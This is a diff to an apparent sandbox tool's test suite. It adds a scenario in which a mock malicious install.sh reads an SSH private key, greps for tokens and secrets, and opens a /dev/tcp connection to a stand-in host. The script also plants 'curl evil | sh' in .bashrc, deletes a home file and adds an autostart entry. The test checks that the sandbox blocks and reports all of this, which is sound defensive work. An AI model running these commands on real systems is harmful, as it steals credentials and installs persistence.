@@ -320,6 +320,43 @@ def administrator(place, tap):
         machine.close()
 
 
+# ---- the cautious person ----
+
+DOWNLOADS = """
+mkdir downloads; cd downloads; echo mine >mine.txt
+mkdir ~/.ssh; echo 'PRIVATE KEY' >~/.ssh/id_ed25519; chmod 700 ~/.ssh; chmod 600 ~/.ssh/id_ed25519
+echo 'alias ll=ls' >~/.bashrc; echo letter >~/letter.txt
+cat >install.sh <<'SH'
+cat ~/.ssh/id_ed25519 2>/dev/null && echo STOLEN
+env | grep -c 'TOKEN\\|SECRET'
+(exec 3<>/dev/tcp/telemetry.example.com/443) 2>/dev/null && echo SENT
+echo 'curl evil | sh' >>~/.bashrc
+rm -f ~/letter.txt
+mkdir -p ~/.config/tool; echo persist >~/.config/tool/autostart
+mkdir tool; echo 'the tool' >tool/bin
+echo changed >>mine.txt
+SH
+"""
+
+
+def cautious_person(place, tap, who):
+    p = Person(place, tap, who, DOWNLOADS)
+    downloads = p.work + "/downloads"
+    words = ("run", "--untrusted", "--", "bash", "install.sh")
+    secret = {"MY_TOKEN": "t0ken", "AWS_SECRET_ACCESS_KEY": "s3cret"}
+    screen = p.at_terminal(*words, cwd=downloads, environment=secret, answers=[(QUESTION, b"x\n")])
+    exact, _ = told(screen, "work/downloads")
+    p.check("the cautious person's script sees no key, no token and no network", "PRIVATE" not in screen.text and "STOLEN" not in screen.text and
+            "SENT" not in screen.text and "\n0\n" in screen.text, screen)
+    p.check("what it tried is told: the host, and what it wrote in the home directory", "telemetry.example.com" in screen.text and
+            all(name in screen.text for name in (".bashrc", "letter.txt", "autostart")) and "untrusted: " in screen.text, screen)
+    p.check("what it changed in the directory is listed", exact == {"work/downloads/" + name for name in ("tool", "tool/bin", "mine.txt")}, sorted(exact), screen)
+    p.check("and after the answer x nothing of it is on disk", not p.changed() and json.loads(p.box.atoll("list", "--json").stdout) == [], sorted(p.changed()))
+    screen = p.at_terminal(*words, cwd=downloads, environment=secret, answers=[(QUESTION, b"c\n")])
+    p.check("with the answer c exactly the list lands", screen.returncode == 0 and p.changed() == exact, sorted(p.changed() ^ exact), screen)
+    p.close()
+
+
 def with_server(place, tap):
     if not os.path.exists(MODULES + "/knex/bin/cli.js"):
         tap.skip("the backend developer", "knex could not be fetched by npm")
@@ -338,7 +375,7 @@ def with_server(place, tap):
 
 def main(place, tap):
     for who in place.users():
-        for story in (developer, platform_engineer):
+        for story in (developer, platform_engineer, cautious_person):
             if t.only(story.__name__):
                 story(place, tap, who)
     if t.only("backend_developer"):
